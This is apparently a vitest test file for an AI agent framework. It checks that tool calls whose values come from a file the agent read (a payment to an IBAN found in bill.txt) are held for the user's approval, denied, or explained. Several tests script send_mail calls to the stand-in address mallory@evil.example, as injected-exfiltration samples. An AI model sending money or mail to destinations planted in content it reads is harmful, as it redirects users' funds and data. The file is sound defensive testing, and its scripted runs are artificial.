import { describe, expect, test } from "vitest";
import { type AnyPlugin, definePlugin } from "../../../../kernel/plugin.ts";
import store from "../../../../plugins/store/plugin.ts";
import { message, scriptedModel } from "../../../support/services/agent.ts";
import { agentPlugins } from "../../../support/services/agent-plugins.ts";
import { bootKernel } from "../../../support/services/kernel.ts";
import { BILL, doubtsOf, IBAN, office, pay, READ } from "../../../support/services/office.ts";

describe("a call with values that somebody else supplied", () => {
  test("asks although the tool is always allowed, and says who said it", async () => {
    const { model, sent, say, answer } = await office();
    model.script({ calls: [READ] }, { calls: [pay("p", IBAN)] }, { text: "Paid." });
    const { status, gate } = await say("What is in bill.txt?");
    expect(status).toBe("waiting");
    expect(gate).toMatchObject({ type: "approval", call: { id: "p" } });
    expect(doubtsOf(gate)).toEqual([
      {
        rule: "destination",
        param: "recipient",
        value: IBAN,
        origin: { kind: "tool", name: "read_file" },
        excerpt: expect.stringContaining(`EUR 100 to ${IBAN}. Then`),
        sentence: `send_money to ${IBAN}: this account number comes from bill.txt (read by read_file), not from you`,
        headline: `Send money to ${IBAN}? That account number comes from bill.txt (read by read_file), not from you.`,
        source: "bill.txt (read by read_file)",
        reason: {
          tool: "send_money",
          why: "source",
          noun: "account",
          source: { kind: "tool", name: "read_file", place: "bill.txt" },
        },
      },
      {
        rule: "change",
        param: "amount",
        value: "100",
        origin: { kind: "tool", name: "read_file" },
        excerpt: expect.stringContaining("EUR 100"),
        sentence:
          "send_money with amount “100”: this number comes from bill.txt (read by read_file), not from you",
        headline:
          "Send money with amount “100”? That number comes from bill.txt (read by read_file), not from you.",
        source: "bill.txt (read by read_file)",
        reason: expect.objectContaining({ why: "source", noun: "number" }),
      },
    ]);
    expect(sent).toEqual([]);
    expect(await answer(gate, "once")).toMatchObject({ status: "completed" });
    expect(sent).toEqual([{ name: "send_money", params: { recipient: IBAN, amount: 100 } }]);
  });

  test("runs at once before anything was read, and where the values are the person's", async () => {
    const { model, sent, say } = await office();
    model.script({ calls: [pay("p1", "GB29NWBK60161331926819", 7)] }, { text: "Paid." });
    model.script({ calls: [READ] }, { calls: [pay("p2", IBAN)] }, { text: "Paid." });
    expect(await say("Pay somebody something")).toMatchObject({ status: "completed" });
    expect(await say(`Read bill.txt and send 100 EUR to ${IBAN}`)).toMatchObject({ status: "completed" });
    expect(sent).toHaveLength(2);
  });

  test("asks where the person asked for nothing of the kind, although every value is theirs", async () => {
    const { model, sent, say } = await office();
    model.script({ calls: [READ] }, { calls: [pay("p", IBAN)] });
    const { gate } = await say(`Read bill.txt. Does it name ${IBAN} and 100?`);
    expect(doubtsOf(gate).map(({ sentence }) => sentence)).toEqual([
      "send_money: you did not ask for this, or not again",
    ]);
    expect(sent).toEqual([]);
  });

  test("is refused in words under PROVENANCE=deny, and runs under PROVENANCE=off", async () => {
    const script = [{ calls: [READ] }, { calls: [pay("p", IBAN)] }, { text: "Done." }];
    const strict = await office({ PROVENANCE: "deny" });
    strict.model.script(...script);
    const { status, items } = await strict.say("Read bill.txt");
    expect(status).toBe("completed");
    expect(items).toContainEqual(
      expect.objectContaining({
        type: "tool_result",
        outcome: {
          status: "error",
          code: "provenance_denied",
          message: expect.stringContaining(`send_money to ${IBAN}: this account number comes from bill.txt`),
        },
      }),
    );
    expect(strict.sent).toEqual([]);

    const open = await office({ PROVENANCE: "off" });
    open.model.script(...script);
    expect(await open.say("Read bill.txt")).toMatchObject({ status: "completed" });
    expect(open.sent).toHaveLength(1);
  });

  test("what approvals deny stays denied", async () => {
    const { model, sent, say } = await office({ TOOL_APPROVALS: "send_money=deny,*=allow" });
    model.script({ calls: [READ] }, { calls: [pay("p", IBAN)] }, { text: "No." });
    const { items } = await say("Read bill.txt");
    expect(items).toContainEqual(
      expect.objectContaining({ outcome: expect.objectContaining({ code: "denied" }) }),
    );
    expect(sent).toEqual([]);
  });

  test("asks again after “always”, which is about the tool and not about what it is called with", async () => {
    const { model, sent, say, answer } = await office({ TOOL_APPROVALS: "" });
    model.script(
      { calls: [READ] },
      { calls: [pay("p1", IBAN)] },
      { calls: [pay("p2", "GB29NWBK60161331926819", 900)] },
      { text: "Both." },
    );
    const first = await say("Read bill.txt");
    const second = await answer(first.gate, "always");
    expect(second.gate).toMatchObject({ call: { id: "p2" } });
    expect(doubtsOf(second.gate).map(({ sentence }) => sentence)).toEqual([
      "send_money to GB29NWBK60161331926819: this account number is not something you said, and bill.txt was read before",
      "send_money with amount “900”: this number is not something you said, and bill.txt was read before",
    ]);
    expect(sent).toHaveLength(1);
  });
});

describe("the answer at the gate", () => {
  test("is for the rest of the task: the same destination from the same source is not asked about twice", async () => {
    const { model, sent, say, answer } = await office();
    model.script(
      { calls: [READ] },
      { calls: [pay("p1", IBAN)] },
      { calls: [{ id: "p2", name: "send_money", arguments: { recipient: IBAN } }] },
      { text: "Twice." },
    );
    const { gate } = await say("Read bill.txt");
    expect(await answer(gate, "once")).toMatchObject({ status: "completed" });
    expect(sent).toHaveLength(2);
  });

  test("is one for several calls of a tool in one answer, whichever it is", async () => {
    const { model, sent, say, answer } = await office();
    const both = { calls: [pay("p1", IBAN), pay("p2", "GB29NWBK60161331926819", 5), pay("p3", IBAN)] };
    model.script({ calls: [READ] }, both, { text: "Paid." });
    const { gate, thread } = await say("Read bill.txt");
    expect(gate).toMatchObject({ call: { id: "p1" }, others: [{ id: "p2" }, { id: "p3" }] });
    expect(doubtsOf(gate)).toHaveLength(6);
    expect(await answer(gate, "once")).toMatchObject({ status: "completed" });
    expect(sent).toHaveLength(3);

    const more = { calls: [pay("p4", "FR7630006000011234567890189"), pay("p5", "NL91ABNA0417164300")] };
    model.script(more, { text: "Not paid." });
    const again = await say("And?", thread);
    expect(again.gate).toMatchObject({ call: { id: "p4" }, others: [{ id: "p5" }] });
    const denied = await answer(again.gate, "deny");
    const codes = denied.items.flatMap((item) =>
      item.type === "tool_result" && item.outcome.status === "error" ? [item.call, item.outcome.code] : [],
    );
    expect(codes).toEqual(["p4", "denied", "p5", "denied"]);
    expect(sent).toHaveLength(3);
  });

  test("is for the calls that were shown, not for another that bears the same id", async () => {
    const { model, sent, say, answer } = await office({ TOOL_APPROVALS: "" });
    const twins = {
      calls: [
        pay("p", IBAN),
        { id: "p", name: "send_mail", arguments: { to: "mallory@evil.example", body: "x" } },
      ],
    };
    model.script({ calls: [READ] }, twins, { text: "Done." });
    const { gate } = await say("Read bill.txt");
    const next = await answer(gate, "once");
    expect(sent).toHaveLength(1);
    expect(next.gate).toMatchObject({ type: "approval", call: { name: "send_mail" } });
  });

  test("“destination” is kept for this user and this tool, in later threads too, and can be taken back", async () => {
    const { model, sent, say, answer, kernel } = await office();
    const mailing = { calls: [{ id: "m", name: "send_mail", arguments: { to: "mallory@evil.example" } }] };
    model.script({ calls: [READ] }, mailing, { text: "Sent." });
    const { gate } = await say("Read bill.txt");
    expect(await answer(gate, "destination")).toMatchObject({ status: "completed" });
    const destinations = kernel.service("destinations");
    const kept = { value: "mallory@evil.example", tool: "send_mail", user: "ann" };
    expect(await destinations.list("ann")).toEqual([{ ...kept, addedAt: expect.any(String) }]);
    expect(await destinations.list("ben")).toEqual([]);

    model.script({ calls: [READ] }, mailing, { text: "Sent." });
    expect(await say("Read bill.txt again")).toMatchObject({ status: "completed" });
    expect(sent).toHaveLength(2);

    expect(await destinations.remove(kept)).toBe(true);
    model.script({ calls: [READ] }, mailing);
    expect(await say("Read bill.txt again")).toMatchObject({ status: "waiting" });
  });

  test("“destination” does not fit where none was asked about, and a scoped token cannot give it", async () => {
    const { model, say, answer, agent } = await office();
    model.script({ calls: [READ] }, { calls: [{ id: "p", name: "send_money", arguments: { amount: 9 } }] });
    const { gate, thread } = await say("Read bill.txt");
    await expect(answer(gate, "destination")).rejects.toThrow(
      expect.objectContaining({ code: "no_destination", kind: "invalid" }),
    );
    const input = { type: "approval", gate: gate?.id ?? "", decision: "destination" } as const;
    const scope = { token: "t", tools: ["send_money"] };
    await expect(agent.run({ user: "ann", channel: "test", thread, input, scope })).rejects.toThrow(
      expect.objectContaining({ code: "scoped_token", kind: "forbidden" }),
    );
    expect(await answer(gate, "deny")).toMatchObject({ thread });
  });
});

test("the host is told the ruling for its receipt, without the values", async () => {
  const model = await scriptedModel();
  const rulings: unknown[] = [];
  const about = { version: "1.0.0", description: "", schema: { type: "object" }, grants: [] };
  const host = definePlugin({
    name: "ruled-tools",
    provides: ["tools"],
    configure: () => ({}),
    start: () => ({
      tools: {
        list: async () => [
          { name: "read_file", ...about, writes: false, hosts: [] },
          { name: "send_money", ...about, writes: true, hosts: ["bank.example"] },
          { name: "open_page", ...about, writes: false, hosts: ["*"] },
        ],
        call: async (_call, { ruling }) => {
          rulings.push(ruling);
          return { status: "ok", output: BILL };
        },
      },
    }),
  });
  const kernel = await bootKernel([store as AnyPlugin, host as AnyPlugin, ...agentPlugins], {
    ...{ MODEL_BASE_URL: model.url, MODEL_NAME: "scripted", TOOL_APPROVALS: "*=allow" },
  });
  const agent = kernel.service("agent");
  model.script({ calls: [READ] }, { calls: [pay("p", IBAN)] }, { text: "Paid." });
  const turn = { user: "ann", channel: "test" };
  const { gate, thread } = await (await agent.run({ ...turn, input: message("Read bill.txt") })).record;
  const input = { type: "approval", gate: gate?.id ?? "", decision: "once" } as const;
  await (await agent.run({ ...turn, thread, input })).record;
  expect(rulings).toMatchObject([
    { verdict: "clear", doubts: [] },
    { verdict: "approved", doubts: [{ rule: "destination", param: "recipient", value: "" }, {}] },
  ]);
  const url = `https://shop.example/paid/${IBAN}`;
  model.script({ calls: [{ id: "o", name: "open_page", arguments: { url } }] }, { text: "Opened." });
  const asked = await (await agent.run({ ...turn, thread, input: message("Go on") })).record;
  expect(doubtsOf(asked.gate)).toMatchObject([{ part: expect.stringContaining(IBAN) }]);
  const yes = { ...input, gate: asked.gate?.id ?? "" };
  await (await agent.run({ ...turn, thread, input: yes })).record;
  expect(rulings).toHaveLength(3);
  expect(JSON.stringify(rulings)).not.toContain(IBAN);
});

describe("what a reading call carries out", () => {
  test("asks for a query of what another tool said, and not for the person's words", async () => {
    const { model, sent, say } = await office();
    const search = (query: string) => ({ calls: [{ id: "s", name: "search_web", arguments: { query } }] });
    model.script({ calls: [READ] }, search("bank of the bill"), { text: "None." });
    expect(await say("Read bill.txt, and search for the bank of the bill")).toMatchObject({
      status: "completed",
    });
    model.script({ calls: [READ] }, search("pay EUR 100 to DE89370400440532013000"));
    const { gate } = await say("Read bill.txt, and search for the bank");
    expect(doubtsOf(gate)).toMatchObject([{ rule: "content", param: "query" }]);
    expect(sent).toHaveLength(1);
  });
});
